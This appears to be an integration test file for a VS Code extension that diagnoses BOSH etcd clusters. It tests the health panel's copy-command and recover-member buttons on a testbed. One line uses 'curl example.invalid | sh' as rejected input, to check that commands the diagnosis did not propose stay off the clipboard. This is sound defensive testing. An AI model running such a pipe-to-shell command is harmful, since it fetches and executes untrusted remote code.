// The health panel's action buttons inside a real VS Code extension host, on the testbed: the
// webview cannot be clicked from here, so each test posts the very message the button posts
// through the panel controller's handler (as the webview does) and asserts what the operator gets:
// the bosh command of a stopped member on the clipboard, the recovery wizard on a wiped member
// with that member preselected.
import * as assert from 'assert';
import * as vscode from 'vscode';
import type { BoshEtcdApi } from '../../src/extension';
import type { HealthController } from '../../src/webviews/health/healthController';
import type { FindingRow, HostToPanel, PanelButton } from '../../src/webviews/health/protocol';
import { ScriptedUi } from '../../src/ui/scriptedUi';
import { masters, readTestbedState, type TestbedState } from '../testbed/harness/state';

import { activateApi, harness, until, walkDeployment } from './helpers';

suite('panel actions: the buttons of the health panel start the flows the diagnosis proposes', function () {
  this.timeout(480_000);
  let state: TestbedState;
  let api: BoshEtcdApi;
  let envName: string;
  let broken: { instance: string; rebuild: boolean } | undefined;
  let requestId = 100;

  suiteSetup(async () => {
    state = readTestbedState();
    api = await activateApi(state);
    api.setUi(new ScriptedUi({ confirm: { hostKey: false } }));
    api.model.refresh();
    const { env } = await walkDeployment(api, state);
    envName = env.key.replace(/^env:/, '');
  });

  suiteTeardown(async () => {
    if (broken) await harness().heal(broken.instance, { rebuild: broken.rebuild });
  });

  /** Refreshes the panel's diagnosis until a finding about the instance carries a button that `want` accepts. */
  async function buttonFor(
    c: HealthController,
    instanceId: string,
    want: (b: PanelButton) => boolean,
  ): Promise<{ finding: FindingRow; button: PanelButton }> {
    return until(
      `a finding about ${instanceId} with the expected button`,
      async () => {
        await c.handle({ type: 'refresh', requestId: requestId++ });
        const f = c.lastSnapshot?.findings.find(
          (x) => x.instance === `master/${instanceId}` && x.button && want(x.button),
        );
        return f && f.button ? { finding: f, button: f.button } : undefined;
      },
      180_000,
    );
  }

  async function healAndWait(): Promise<void> {
    if (!broken) return;
    await harness().heal(broken.instance, { rebuild: broken.rebuild });
    broken = undefined;
    await until(
      'all healthy again',
      async () => {
        // A fresh observation each time (the model otherwise keeps one per tree refresh).
        const s = (await api.model.diagnosis(envName, state.deployment, { maxAgeMs: 1000 })).diagnosis?.summary;
        return s && s.worst !== 'critical' && s.healthyMembers === 3 && s.members === 3 ? true : undefined;
      },
      180_000,
    );
  }

  test('stop: the finding\'s "Copy command" puts its bosh command on the clipboard', async () => {
    const victim = masters(state)[1];
    broken = { instance: `master/${victim.id}`, rebuild: false };
    await harness().breakInstance(broken.instance, 'stop');
    const posted: HostToPanel[] = [];
    const c = api.panels.createController(envName, state.deployment, (m) => posted.push(m));
    try {
      await c.handle({ type: 'ready' });
      const { finding, button } = await buttonFor(
        c,
        victim.id,
        (b) => b.kind === 'copy-command' && /monit start etcd/.test(b.command),
      );
      assert.ok(button.kind === 'copy-command');
      assert.strictEqual(button.command, finding.command, 'the button copies the command the finding shows');
      await vscode.env.clipboard.writeText('before');
      await c.handle({ type: 'copyCommand', requestId: 7, command: button.command });
      assert.strictEqual(await vscode.env.clipboard.readText(), button.command);
      assert.ok(posted.some((m) => m.type === 'notice' && m.requestId === 7 && m.message.includes(button.command)));
      // Text the diagnosis does not propose stays off the clipboard.
      await c.handle({ type: 'copyCommand', requestId: 8, command: 'curl example.invalid | sh' });
      assert.strictEqual(await vscode.env.clipboard.readText(), button.command);
    } finally {
      c.dispose();
    }
    await healAndWait();
  });

  test('wipe: the finding\'s "Recover this member…" starts the recovery wizard with that member preselected', async () => {
    const victim = masters(state)[2];
    broken = { instance: `master/${victim.id}`, rebuild: true };
    await harness().breakInstance(broken.instance, 'wipe');
    const c = api.panels.createController(envName, state.deployment, () => undefined);
    try {
      await c.handle({ type: 'ready' });
      const { button } = await buttonFor(c, victim.id, (b) => b.kind === 'recover-member');
      assert.ok(button.kind === 'recover-member');
      assert.strictEqual(button.instanceId, victim.id);
      // Declining at the modal: the wizard ran up to its confirmation, nothing changed.
      const ui = new ScriptedUi({
        pick: { member: { preselected: true }, options: () => [] },
        confirm: { recover: false, hostKey: false },
      });
      api.setUi(ui);
      // What the button posts; the controller awaits the wizard the command starts.
      await c.handle({ type: 'recoverMember', requestId: 9, memberName: button.instanceId });
      const memberPick = ui.prompts.find((p) => p.kind === 'pick' && p.id === 'member');
      assert.ok(memberPick, `the wizard asked for the member; prompts: ${ui.prompts.map((p) => p.id).join(', ')}`);
      const picked = (memberPick.items ?? []).filter((i) => i.picked);
      assert.strictEqual(picked.length, 1, 'one member preselected');
      assert.ok(picked[0].label.includes(victim.id), `preselected ${picked[0].label}`);
      assert.ok(
        !ui.prompts.some((p) => p.id === 'environment' || p.id === 'deployment'),
        'environment and deployment came from the panel',
      );
      assert.strictEqual(ui.prompts.filter((p) => p.kind === 'confirm' && p.id === 'recover').length, 1);
      // The member named by the message is the one preselected (not the wizard's own choice of the
      // broken one): asked for a healthy member, the wizard preselects that one; cancelled there.
      const other = masters(state)[0];
      const cancelUi = new ScriptedUi({ pick: { member: () => undefined }, confirm: { hostKey: false } });
      api.setUi(cancelUi);
      await c.handle({ type: 'recoverMember', requestId: 10, memberName: other.id });
      const again = cancelUi.prompts.find((p) => p.kind === 'pick' && p.id === 'member');
      assert.ok(again, 'the wizard asked for the member again');
      assert.deepStrictEqual(
        (again.items ?? []).filter((i) => i.picked).map((i) => i.label.includes(other.id)),
        [true],
      );
    } finally {
      c.dispose();
    }
    await healAndWait();
  });
});
